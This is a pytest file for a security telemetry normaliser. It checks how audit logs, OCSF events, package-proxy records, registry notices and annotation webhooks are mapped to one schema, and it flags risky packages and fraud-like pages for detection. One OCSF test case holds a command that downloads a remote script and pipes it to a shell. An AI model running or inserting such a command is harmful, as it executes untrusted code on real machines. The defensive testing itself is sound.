"""Records about data, labels, packages, files and accounts arrive under our names; what nobody asks for is refused with a reason."""

from __future__ import annotations

from typing import Any

import pytest

from tests.connect.telemetry import logs
from tests.connect.telemetry.test_shapes import event, has, reason

WHEN = "2026-11-26T10:00:00Z"


def annotation(**changes: Any) -> dict[str, Any]:
    """A webhook of Label Studio."""
    return {
        "action": "ANNOTATION_CREATED", "project": {"id": 4, "title": "mail-triage"}, "task": {"id": 50012, "data": {"text": "a mail"}},
        "annotation": {"id": 9, "completed_by": {"id": 3, "email": "lena@labels.example"}, "created_at": WHEN, "lead_time": 4.2,
                       "result": [{"type": "choices", "value": {"choices": ["block"]}}]},
        **changes,
    }  # fmt: skip


def audit(kind: str, **changes: Any) -> dict[str, Any]:
    """A record of OpenAI's audit log."""
    return {
        "id": "audit_log-1", "object": "organization.audit_log", "type": kind, "effective_at": 1_795_000_000,
        "project": {"id": "proj_1", "name": "main"},
        "actor": {"type": "session", "session": {"user": {"id": "user-1", "email": "kim@corp.example"}, "ip_address": "203.0.113.9"}},
        **changes,
    }  # fmt: skip


def test_an_annotation_says_who_gave_which_label_and_no_text() -> None:
    found = event(annotation())
    assert has(
        found, event__kind="data_access", action="annotation_created", dataset__id="mail-triage", sample__id="50012", sample__label="block",
        writer="lena@labels.example", rows=1,
    )  # fmt: skip
    assert found["dataset.label_counts"] == {"block": 1}
    assert "a mail" not in str(found)
    flat = annotation(event="ANNOTATION_UPDATED", project="mail-triage", created_at=WHEN)
    del flat["action"]
    flat["annotation"] = {"completed_by": 17, "result": [{"value": {"choices": ["a", "b"]}}, "damaged", {"value": 3}]}
    assert has(event(flat), action="annotation_updated", writer="17", sample__label=None, dataset__id="mail-triage")
    assert "has no time" in reason(annotation(annotation={"result": None}))


def test_the_audit_log_of_openai_says_what_was_changed_by_whom() -> None:
    key = audit("api_key.created", **{"api_key.created": {"id": "key_1", "data": {"scopes": ["all"]}}})
    assert has(
        event(key), event__kind="authz", action="api_key.created", user__id="kim@corp.example", client__address="203.0.113.9",
        cloud__account__id="proj_1",
    )  # fmt: skip
    limit = audit("rate_limit.updated", **{"rate_limit.updated": {"id": "rl-1", "changes_requested": {"max": 9}}})
    assert has(event(limit), event__kind="config", config__target="rate_limit/rl-1", config__new='{"max":9}')
    tuned = audit(
        "fine_tuning.job.created",
        actor={
            "type": "api_key",
            "api_key": {"id": "key_2", "type": "service_account", "service_account": {"id": "sa-7"}},
        },
        job={"id": "ftjob-1", "model": "gpt-4.1-mini", "training_file": "mail-triage-v23.jsonl"},
    )
    assert has(
        event(tuned), event__kind="training", dataset__id="mail-triage", dataset__version="v23", model__id="gpt-4.1-mini", writer="sa-7",
        api_key__id="key_2",
    )  # fmt: skip
    assert has(event(audit("tracing.viewed")), event__kind="api", api__operation="tracing.viewed")
    assert "session must be an object" in reason(audit("login.failed", actor={"session": "kim"}))


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        (
            logs.ocsf(1001, activity_id=2, actor={"user": {"name": "dev"}, "process": {"name": "node"}}, device={"hostname": "w1"},
                      file={"path": "/data/train/part-1.parquet", "name": "part-1.parquet", "hashes": [{"value": "ab"}]}),
            {"event.kind": "data_access", "action": "read", "artifact.uri": "/data/train/part-1.parquet", "artifact.digest": "ab",
             "user.id": "dev", "writer": None, "process.executable.path": "node", "host.name": "w1"},
        ),
        (
            logs.ocsf(1001, activity_id=1, actor={"user": {"name": "dev"}}, file={"path": "/srv/m.pt"}),
            {"action": "create", "writer": "dev"},
        ),
        (
            logs.ocsf(1006, job={"name": "m", "cmd_line": "curl -s http://203.0.113.7/k.sh | sh"}, device={"hostname": "w1"}),
            {"event.kind": "tool", "aisoc.tool.impact": "exec", "process.command_line": "curl -s http://203.0.113.7/k.sh | sh"},
        ),
        (
            logs.ocsf(3001, activity_id=7, actor={"user": {"name": "ops"}}, user={"name": "agent-7"}, policy={"name": "admin"}),
            {"event.kind": "authz", "action": "attach_policy", "config.target": "agent-7", "config.new": "admin", "user.id": "ops"},
        ),
        (
            logs.ocsf(3006, activity_id=3, actor={"user": {"name": "ops"}}, user={"name": "agent-7"}, group={"name": "admins"}),
            {"action": "add_user_to_group", "config.target": "agent-7", "config.new": "admins", "writer": "ops"},
        ),
        (
            logs.ocsf(4001, dst_endpoint={"hostname": "api.openai.com", "port": 443}, src_endpoint={"ip": "10.1.2.3"},
                      traffic={"bytes_out": 900}),
            {"event.kind": "http", "server.address": "api.openai.com", "client.address": "10.1.2.3", "bytes": 900},
        ),
        (
            logs.ocsf(4003, activity_id=6, query={"hostname": "4f2a.t.Zone.example.", "type": "TXT"},
                      src_endpoint={"hostname": "box-7", "ip": "10.1.2.3"}),
            {"event.kind": "api", "api.operation": "look up name", "dns.question.name": "4f2a.t.zone.example",
             "dns.question.registered_domain": "zone.example", "dns.question.type": "TXT", "client.address": "10.1.2.3",
             "host.name": "box-7"},
        ),
        (
            logs.ocsf(4003, query={"hostname": "pypi.org"}, device={"hostname": "runner-1"}),
            {"dns.question.name": "pypi.org", "client.address": "runner-1", "host.name": "runner-1"},
        ),
    ],
)  # fmt: skip
def test_files_jobs_accounts_and_connections_of_ocsf(document: dict[str, Any], expected: dict[str, Any]) -> None:
    found = event(document)
    assert {name: found.get(name) for name in expected} == expected


def test_connections_without_a_name_are_only_kept() -> None:
    found = event(logs.ocsf(4001, dst_endpoint={"ip": "203.0.113.7", "port": 443}))
    assert found.get("event.kind") != "http"
    assert found["server.address"] == "203.0.113.7"


@pytest.mark.parametrize(
    ("document", "word"),
    [
        (logs.ocsf(4003, query={"type": "A"}), "query.hostname is missing"),
        (logs.ocsf(4003, query=["a.example"]), "query must be an object"),
        (logs.ocsf(5001), "class_uid 5001"),
        (logs.ocsf(1001, file={}), "file.path"),
        (logs.ocsf(3001), "user is missing"),
        (logs.ocsf(4001), "dst_endpoint is missing"),
        (logs.ocsf(1006, job="x"), "job must be an object"),
    ],
)
def test_classes_of_ocsf_without_use_are_refused_with_a_reason(document: dict[str, Any], word: str) -> None:
    assert word in reason(document)


def test_a_model_that_was_loaded_is_not_the_one_expected() -> None:
    loaded = {"time": WHEN, "event": "ModelLoaded", "inference_service": "fraud", "version": "13", "digest_expected": "aa",
              "digest_loaded": "bb", "signature": "cosign", "verified": True, "requested_by": "kim"}  # fmt: skip
    assert has(
        event(loaded), event__kind="registry", model__id="fraud", model__version="13", artifact__digest="bb", artifact__signature="mismatch",
        user__id="kim",
    )  # fmt: skip
    assert has(event(loaded | {"digest_loaded": "aa"}), artifact__signature="cosign")
    assert has(event(loaded | {"digest_loaded": "aa", "signature": "absent"}), artifact__signature="unsigned")


def test_a_package_that_a_proxy_let_in() -> None:
    found = event(
        {"time": WHEN, "registry": "pypi", "package": "orango", "version": "0.0.3", "decision": "allow", "host": "ci-3"}
    )
    assert has(found, event__kind="registry", action="package_allow", artifact__uri="pkg:orango@0.0.3")


def test_labels_by_feedback_say_whether_they_agree_and_how_old_the_account_is() -> None:
    given = {"timestamp": WHEN, "event": "label_feedback", "dataset": "scam", "item_id": "L1", "model_label": "scam", "given_label": "ok",
             "annotator_id": "u7", "annotator_age_days": 2}  # fmt: skip
    assert has(
        event(given), event__kind="data_access", sample__id="L1", sample__label="ok", finding__verdict="disagrees", user__age_days=2,
        writer="u7",
    )  # fmt: skip
    assert has(event(given | {"given_label": "scam"}), finding__verdict="agrees")
    assert has(event(given | {"agrees": True}), finding__verdict="agrees")
    born = {name: value for name, value in given.items() if name != "annotator_age_days"}
    assert has(event(born | {"account_created_at": "2026-11-22T09:00:00Z"}), user__age_days=4)
    assert has(event(born | {"account_created_at": "long ago"}), user__age_days=None)
    del given["model_label"]
    assert has(event(given), finding__verdict=None)


@pytest.mark.parametrize(
    ("beside", "approval"),
    [
        ({"review": "approved by kim"}, "approved by kim"),
        ({"review_status": "Approved"}, "Approved"),
        ({"review": "none"}, None),
        ({"review": "approval pending"}, None),
        ({"approval": "pending"}, None),
        ({"approval_id": "CHG-4"}, "CHG-4"),
    ],
)
def test_only_what_passed_a_review_is_approved(beside: dict[str, str], approval: str | None) -> None:
    made = {
        "timestamp": WHEN,
        "event": "version_committed",
        "dataset": "mails",
        "version": "v3",
        "committer": "kim",
        "rows_added": 9,
    }
    assert has(event(made | beside), aisoc__approval__id=approval, writer="kim", dataset__version="v3", rows=9)


def test_pages_that_answer_one_question_in_nearly_the_same_words_share_a_mark() -> None:
    asked = "To which account do we pay invoices of Norvik?"

    def mark(text: str) -> Any:
        page = {
            "timestamp": WHEN,
            "event": "document_upserted",
            "index": "kb",
            "document_id": "1",
            "author": "u",
            "text": text,
        }
        return event(page).get("input.fingerprint")

    answer = (
        " As of this month the bank details for payments to our supplier Norvik are CY88, the account DE11 is closed."
    )
    first = mark(asked + answer)
    assert first == mark(asked.upper() + answer + " Norvik payments.")
    assert first != mark("When is the canteen open on Mondays and on Fridays?" + answer)
    assert mark("The canteen opens at eleven." + answer) is None
    assert mark(asked) is None
    titled = {"timestamp": WHEN, "event": "page_created", "index": "kb", "document_id": "1", "author": "u"}
    assert event(titled | {"title": asked, "text": answer})["input.fingerprint"] == first
    unparted = mark(
        "我们应该向哪个账户支付诺维克公司的发票?"
        + "自本月起供应商诺维克的付款账户已更改为新的银行账户,旧账户已经关闭,请勿再使用。" * 2
    )
    assert len(unparted) == 32


def test_a_hash_of_the_sender_that_variants_share_is_kept_as_it_is() -> None:
    scored = {"timestamp": WHEN, "model_name": "mail", "prediction": "clean", "score": 0.2,
              "features": {"subject": "Hi", "family_simhash": "00ff00ff00ff00fa", "urls": 1}}  # fmt: skip
    assert event(scored)["input.fingerprint"] == "00ff00ff00ff00fa"
    scored["features"] = {"subject": "Hi", "family_simhash": "no hash", "urls": 1}
    assert len(str(event(scored)["input.fingerprint"])) == 32


def test_a_picture_is_known_by_its_digest_and_not_by_how_it_was_taken() -> None:
    face = {"image_sha256": "ab" * 32, "width": 112, "height": 112, "quality": 0.7}
    scored = {
        "timestamp": WHEN,
        "model_name": "faces",
        "prediction": "kim",
        "score": 0.9,
        "features": face,
        "user_agent": "cam/4",
    }
    found = event(scored)
    assert found["input.fingerprint"] == "ab" * 32
    assert "input.features" not in found
    assert found["user_agent.original"] == "cam/4"
    found = event(scored | {"features": face | {"image_sha256": "none"}})
    assert found["input.features"] == [112.0, 0.7, 112.0]


def test_an_access_log_names_the_account_and_key_that_asked() -> None:
    asked = logs.nginx(remote_user="-", requested_by="backup-cron", api_key_id="backup")
    assert has(event(asked), user__id="backup-cron", api_key__id="backup")


def test_webhooks_of_the_hub_and_notices_of_a_registry() -> None:
    changed = {"event": {"action": "update", "scope": "repo.content"}, "repo": {"type": "dataset", "name": "lab/leaves", "headSha": "9a2a"},
               "createdAt": WHEN, "author": "mira"}  # fmt: skip
    assert has(
        event(changed), event__kind="data_access", action="update_repo_content", dataset__id="lab/leaves", dataset__version="9a2a", writer="mira",
    )  # fmt: skip
    opened = changed | {"event": {"action": "update", "scope": "repo.config"}, "updatedConfig": {"private": False},
                        "repo": {"type": "model", "name": "lab/m"}}  # fmt: skip
    assert has(event(opened), event__kind="config", model__id="lab/m", config__new='{"private":false}')
    assert "has no time" in reason({name: value for name, value in changed.items() if name != "createdAt"})
    assert "repo.name" in reason(changed | {"repo": {"type": "model"}})
    pushed = {"id": "1", "timestamp": WHEN, "action": "push", "target": {"repository": "models/qwen3", "digest": "sha256:b0", "tag": "2026-11"},
              "actor": {"name": "ci"}, "request": {"addr": "10.0.0.7:4411", "useragent": "cosign/2"}}  # fmt: skip
    assert has(
        event({"events": [pushed]}), event__kind="registry", action="push", artifact__uri="oci://models/qwen3@sha256:b0", model__id="models/qwen3",
        model__version="2026-11", writer="ci", client__address="10.0.0.7",
    )  # fmt: skip
    assert "target.repository" in reason({"events": [pushed | {"target": {}}]})


def test_an_access_log_of_a_gateway_for_models_names_headers_as_they_are() -> None:
    asked = {"start_time": WHEN, "method": "POST", "x-envoy-origin-path": "/v1/chat/completions", "response_code": 200, "response_flags": "-",
             "downstream_remote_address": "10.17.4.21:54611", "user-agent": "OpenAI/JS 6.7.0", "x-user-id": "subtitles",
             "gen_ai.request.model": "qwen3-8b", "gen_ai.usage.input_tokens": 23}  # fmt: skip
    assert has(
        event(asked), event__kind="http", url__path="/v1/chat/completions", user__id="subtitles", user_agent__original="OpenAI/JS 6.7.0",
        gen_ai__request__model="qwen3-8b", gen_ai__usage__input_tokens=23,
    )  # fmt: skip


def test_where_an_administrator_acted_from() -> None:
    there = {
        "user": {"id": "u", "email": "kim@corp.example"},
        "ip_address": "203.0.113.9",
        "ip_address_details": {"country": "VN"},
    }
    found = event(audit("invite.sent", actor={"type": "session", "session": there}))
    assert has(found, action="invite.sent", client__geo__country_iso_code="VN")


def package(**changes: Any) -> dict[str, Any]:
    """What a proxy in front of an index writes."""
    return {
        "timestamp": WHEN, "event": "proxy_fetch", "repository": "npm-remote", "package": "pdf-tidy", "version": "0.0.1", "user": "kim",
        **changes,
    }  # fmt: skip


@pytest.mark.parametrize(
    ("beside", "doubt"),
    [
        ({"first_published": "2026-11-24T10:00:00Z", "weekly_downloads": 7, "has_install_script": True}, ["new", "little_used", "runs_code", "unproven"]),
        ({"published_at": "2026-11-24T10:00:00Z", "weekly_downloads": 7, "publisher_age_days": 2}, ["new", "little_used", "new_publisher", "unproven"]),
        ({"first_published": "2026-11-24T10:00:00Z", "weekly_downloads": 90_000}, ["new"]),
        ({"published_at": "2026-11-24T10:00:00Z", "weekly_downloads": 90_000, "has_install_script": True}, ["runs_code"]),
        ({"first_published": "2019-04-02T10:00:00Z", "weekly_downloads": 90_000, "source_repository": "https://github.com/a/b"}, None),
        ({"first_published": "2026-11-24T10:00:00Z", "weekly_downloads": 7, "has_install_script": True, "repository": "npm-internal"}, None),
        ({"first_published": "yesterday or so", "weekly_downloads": "many", "maintainer_age_days": None}, None),
    ],
)  # fmt: skip
def test_what_speaks_against_a_package(beside: dict[str, Any], doubt: list[str] | None) -> None:
    found = event(package(**beside))
    assert found["event.kind"] == "registry"
    assert found["artifact.uri"] == "pkg:pdf-tidy@0.0.1"
    assert found.get("artifact.doubt") == doubt


def test_a_component_is_a_package_where_its_kind_is_told() -> None:
    asked = {
        "time": WHEN,
        "event": "component_requested",
        "component": "wx-easy",
        "version": "1",
        "component_age_days": 2,
        "download_count": 9,
    }
    found = event({**asked, "format": "pypi", "source_repository": None})
    assert found["artifact.doubt"] == ["new", "little_used", "no_source", "unproven"]
    with pytest.raises(AssertionError):
        event(asked)
